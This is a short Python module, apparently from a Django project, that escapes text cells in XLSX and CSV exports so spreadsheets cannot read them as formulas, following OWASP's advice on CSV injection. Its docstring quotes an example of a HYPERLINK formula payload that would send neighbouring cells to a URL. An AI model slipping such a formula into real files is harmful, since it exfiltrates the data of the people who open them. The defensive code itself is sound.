"""What a cell of a file we write (XLSX, CSV) may hold: data, never a formula.

Every writer of a spreadsheet or a CSV passes each value through `cell_value`. Text that begins
with `=`, `+`, `-`, `@`, a tab or a carriage return is what Excel, LibreOffice and Google Sheets
read as a formula (a nickname `=HYPERLINK("http://…?x="&A1,"Сова")` would become a live link that
sends the neighbouring cells away), so such text gets a leading `'`, as OWASP's advice on CSV
injection says; the text after the `'` is kept as it was. Numbers, dates and empty cells pass
unchanged, so a spreadsheet still sums and sorts them."""
from __future__ import annotations

from django.utils.functional import Promise

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_value(value):
    """`value` as a cell shows it: any text as a plain `str`, with a `'` in front of text that a
    spreadsheet would take for a formula; anything else (numbers, dates, None) as it is."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if not isinstance(value, str):
        return value
    value = str(value)  # a str subclass (a sheet's Heading) as plain text
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def cell_values(row) -> list:
    """A row's values through `cell_value`."""
    return [cell_value(value) for value in row]
